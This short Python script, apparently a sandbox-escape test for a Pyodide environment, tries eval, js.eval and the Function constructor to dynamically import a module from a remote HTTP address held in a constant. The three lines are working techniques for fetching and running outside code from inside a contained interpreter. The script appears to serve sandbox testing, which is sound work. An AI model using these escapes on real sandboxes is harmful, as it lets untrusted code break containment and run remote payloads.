import js
from attack import HTTP, attempt, world

attempt("eval", lambda: world.eval(f"import('{HTTP}')"))
attempt("js.eval", lambda: js.eval(f"import('{HTTP}')"))
attempt("Function", lambda: world.Function.new(f"return import('{HTTP}')")())
